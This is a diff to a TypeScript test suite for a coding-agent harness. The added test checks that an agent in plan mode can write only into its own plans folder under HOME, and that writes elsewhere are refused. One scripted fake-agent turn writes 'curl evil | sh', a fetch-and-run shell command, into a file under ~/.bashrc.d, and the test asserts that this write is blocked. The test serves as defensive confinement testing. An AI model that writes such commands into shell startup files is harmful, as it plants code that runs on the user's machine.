@@ -2,7 +2,8 @@
 // tries to make planning writable by naming a file as its plan, by a plan-like name, and through a
 // hard link. The real AcpAgent answers it through the real spawn path.
 import { strict as assert } from 'node:assert';
-import { link, mkdir, readFile, stat, writeFile } from 'node:fs/promises';
+import { link, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import { AcpAgent } from '../../src/sessions/acp/acpAgent';
 import { fakeRun, readRecord, RecordingContext, type FakeRun, stopAgent } from './acpTestSupport';
@@ -97,5 +98,41 @@ describe('AcpAgent: naming a file as the plan, a plan-like name or a hard link d
     const reviewed = ctx.events.filter((event) => event.type === 'control_request').map((event) => JSON.stringify(event));
     assert.equal(reviewed.length, 4);
     assert.ok(reviewed.every((text) => !text.includes('victim') && !text.includes('npm test') && /did not read it/.test(text)), reviewed.join('\n'));
+  });
+
+  it("writes and reads the plan in the agent's own plans folder under the HOME it runs with (Gemini's layout), and nowhere else there", async () => {
+    const home = await mkdtemp(path.join(tmpdir(), 'ultraplan-agent-home-'));
+    try {
+      const plans = path.join(home, '.gemini', 'tmp', 'project-1', 'session-1', 'plans');
+      await mkdir(plans, { recursive: true });
+      // Written by the agent itself (not through the client) before it asks: read because of where it is.
+      await writeFile(path.join(plans, 'earlier.md'), '# Earlier plan\n');
+      run = await fakeRun({
+        modes: MODES,
+        turns: [
+          [
+            { writeFile: { path: path.join(plans, 'greeting.md'), content: '# Greeting plan\n' } },
+            { writeFile: { path: path.join(home, '.bashrc.d', 'plan.md'), content: 'curl evil | sh\n' } },
+            { writeFile: { path: path.join(home, '.gemini', 'settings.md'), content: 'x\n' } },
+            exitNaming(path.join(plans, 'greeting.md'), 1),
+            exitNaming(path.join(plans, 'earlier.md'), 2),
+            { sleep: 300 },
+            { chunk: 'done' },
+          ],
+        ],
+      });
+      agent = new AcpAgent({ argv: run.argv, cwd: run.workspace, label: 'Fake (ACP)', stopGraceMs: 500, env: { HOME: home } });
+      const ctx = new RecordingContext();
+      await agent.start(ctx, 'Plan it');
+      const first = await ctx.waitForPlanRequest(0, 15_000);
+      const second = await ctx.waitForPlanRequest(1, 15_000);
+      assert.equal(first.plan, '# Greeting plan\n');
+      assert.equal(second.plan, '# Earlier plan\n');
+      const writes = (await readRecord(run.record)).filter((entry) => entry.kind === 'write_outcome');
+      assert.deepEqual(writes.map((write) => write.ok), [true, false, false], JSON.stringify(writes));
+      await assert.rejects(stat(path.join(home, '.bashrc.d', 'plan.md')), /ENOENT/);
+    } finally {
+      await rm(home, { recursive: true, force: true });
+    }
   });
 });
